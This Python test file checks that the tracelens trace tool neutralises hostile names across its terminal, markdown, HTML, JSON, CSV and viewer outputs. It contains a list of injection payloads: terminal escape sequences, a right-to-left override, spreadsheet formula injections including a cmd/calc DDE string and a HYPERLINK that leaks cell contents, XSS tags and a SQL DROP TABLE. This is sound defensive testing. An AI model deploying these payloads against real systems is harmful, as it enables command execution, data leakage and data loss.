"""Names that a stranger chose do nothing: in a terminal, on a page, in a spreadsheet, in a viewer."""

import csv
import json
import re
import shutil
import unicodedata
from dataclasses import replace
from pathlib import Path
from typing import Any, Final

import polars as pl
import pyarrow as pa
import pytest
from support.runs.damage import rewritten
from support.samples import SAMPLES
from support.tiers import mark_slow

from tracelens.cli import main
from tracelens.exports.repair import repair
from tracelens.model.csv_cells import cells
from tracelens.model.inert import clean
from tracelens.schema.side import SideTables

HOSTILE: Final = (
    "\x1b[2J\x1b]0;owned\x07",  # clears the screen, and names the window
    "\u202egnp.exe\u2066",  # runs the other way
    '=HYPERLINK("http://a.b/?"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd",
    "+1",
    "\t=1+1",
    "<script>document.title='hostile'</script>",
    "<img src=x onerror=alert(1)>",
    "](javascript:alert(1)) | `code` | **bold**",
    "one\nrank: 7\r\n\x00",
    "'; DROP TABLE spans; --",
    "\ud7ff\U000e0041\ufeff",
)
TEXTS: Final = (
    ("info",),
    ("info", "--format", "markdown"),
    ("analyze",),
    ("analyze", "--full"),
    ("analyze", "--format", "markdown"),
    ("analyze", "--format", "prometheus"),
    ("analyze", "--format", "html"),
    ("validate",),
    ("validate", "--format", "markdown"),
    ("whatif", "--what", "all"),
)
JSON: Final = (
    ("info", "--format", "json"),
    ("analyze", "--format", "json"),
    ("validate", "--format", "json"),
    ("whatif", "--what", "all", "--format", "json"),
)
FILES: Final = {"perfetto": ".json", "otlp": ".json", "speedscope": ".json"}
TAGS: Final = ("<script>document", "<img src=x")
Output = pytest.CaptureFixture[str]


def with_hostile_names(table: pa.Table) -> pa.Table:
    """Give every span name, the host, the job, the thread and the group a hostile one."""
    column_index = table.schema.get_field_index("name")
    chunks: list[Any] = table["name"].chunks
    words = chunks[0].dictionary
    names = pa.array([HOSTILE[number % len(HOSTILE)] + str(number) for number in range(len(words))])
    hostile = [pa.DictionaryArray.from_arrays(chunk.indices, names) for chunk in chunks]
    side = SideTables.from_metadata(table.schema.metadata)
    odd = replace(side.process, host=HOSTILE[0], job=HOSTILE[7])
    threads = tuple(
        replace(row, name=HOSTILE[number % len(HOSTILE)]) for number, row in enumerate(side.threads)
    )
    groups = tuple(replace(row, name=HOSTILE[8]) for row in side.communicators)
    side = replace(side, process=odd, threads=threads, communicators=groups, notes=HOSTILE)
    table = table.set_column(
        column_index, table.schema.field(column_index), pa.chunked_array(hostile)
    )
    return table.replace_schema_metadata(dict(table.schema.metadata) | side.to_metadata())


@pytest.fixture(scope="module")
def trace(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("stranger") / "<b>run\x1b[2J"
    shutil.copytree(SAMPLES / "mpi-sampled", folder)
    for file in list(folder.glob("*.arrow")):
        rewritten(file, lambda table: with_hostile_names(table.unify_dictionaries()))
    (folder / "worker-00009-\x1b[2J=1.arrow").write_bytes(b"nothing")
    return folder


@pytest.fixture(autouse=True)
def cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))


def control_characters(text: str) -> set[str]:
    """Return the control characters of a text."""
    return {c for c in text if unicodedata.category(c) in {"Cc", "Cf"}} - {"\n"}


@pytest.mark.parametrize("verb", mark_slow(TEXTS, TEXTS[:-1]), ids=" ".join)
def test_text_for_people(verb: tuple[str, ...], trace: Path, capsys: Output) -> None:
    code = main([verb[0], str(trace), *verb[1:]])
    out, err = capsys.readouterr()
    assert code in {0, 1}
    assert control_characters(out) | control_characters(err) == set()
    if "markdown" in verb:
        assert not re.search(r"(?<!\\)(<script|<img|\]\(javascript)", out)
    if "html" in verb:
        assert not [tag for tag in TAGS if tag in out]


@pytest.mark.parametrize("verb", mark_slow(JSON, JSON[:-1]), ids=" ".join)
def test_json_escapes_hostile_names(verb: tuple[str, ...], trace: Path, capsys: Output) -> None:
    main([verb[0], str(trace), *verb[1:]])
    out = capsys.readouterr().out
    assert json.loads(out)
    assert control_characters(out) == set()


@pytest.mark.parametrize("form", FILES)
def test_files_for_viewers(form: str, trace: Path, tmp_path: Path) -> None:
    """Viewers show names as text; a text file contains no control characters either."""
    out = tmp_path / f"out{FILES[form]}"
    assert main(["convert", str(trace), "--to", form, "--out", str(out)]) == 0
    text = out.read_text("utf-8")
    assert all(map(json.loads, text.splitlines() if form == "otlp" else [text]))
    assert control_characters(text) == set()


def test_a_table_for_a_spreadsheet(trace: Path, tmp_path: Path) -> None:
    """No cell begins like a formula, and none holds what acts on a terminal."""
    main(["convert", str(trace), "--to", "csv", "--out", str(tmp_path / "spans.csv")])
    main(["analyze", str(trace), "--tables", str(tmp_path / "tables")])
    files = [tmp_path / "spans.csv", *(tmp_path / "tables").glob("*.csv")]
    assert len(files) > 5
    for file in files:
        text = file.read_text("utf-8")
        assert control_characters(text) == set(), file.name
        for row in csv.DictReader(text.splitlines()):
            assert not [cell for cell in row.values() if is_formula(cell)], file.name


def is_formula(cell: str) -> bool:
    """Return True if a spreadsheet would compute the text; numbers may be negative."""
    try:
        float(cell)
    except ValueError:
        return cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    return False


@pytest.mark.slow
def test_the_page_with_charts(trace: Path, tmp_path: Path) -> None:
    main(["analyze", str(trace), "--html", str(tmp_path / "report.html")])
    page = (tmp_path / "report.html").read_text("utf-8")
    assert not [tag for tag in TAGS if tag in page]


def test_a_repaired_copy_keeps_hostile_names(trace: Path, tmp_path: Path) -> None:
    assert (
        control_characters("".join(map(clean, repair(trace, tmp_path / "copy").sentences))) == set()
    )


def test_names_that_do_nothing_stay_as_they_are() -> None:
    frame = pl.DataFrame({"name": ["forward", "a-b=c", None], "n": [-1, 2, 3]})
    assert cells(frame).equals(frame)
    (cell,) = cells(pl.DataFrame({"name": ["=1\x07"]}))["name"]
    assert cell == "'=1\\x07"
